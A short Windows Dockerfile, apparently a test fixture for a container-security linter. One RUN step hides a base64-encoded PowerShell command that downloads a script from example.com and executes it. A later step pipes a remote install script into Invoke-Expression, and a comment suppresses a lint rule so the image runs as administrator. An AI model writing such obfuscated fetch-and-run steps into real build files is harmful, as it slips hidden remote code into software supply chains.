# escape=`
FROM mcr.microsoft.com/powershell:lts-windowsservercore-ltsc2022 AS tools
SHELL ["pwsh", "-NoLogo", "-Command", "$ErrorActionPreference = 'Stop';"]
RUN cmd /S /C "curl.exe -fsSLo C:\tools.zip https://github.com/example/tools/releases/download/v1.2.3/tools.zip && certutil -hashfile C:\tools.zip SHA256 | findstr /i 5f2a0c9d"
RUN $enc = 'aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA=='; `
    powershell -NoProfile -EncodedCommand aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==

# A later stage built FROM the first inherits its SHELL (pwsh) and its servercore base.
FROM tools
ARG BUILD_NUMBER=1
ENV TOOLS_HOME=C:\tools
RUN Write-Host $env:TOOLS_HOME; Invoke-RestMethod https://example.com/install.ps1 | Invoke-Expression
# chainproof ignore=CP017 runs as admin on purpose: this image is a build tool, never deployed
USER ContainerAdministrator
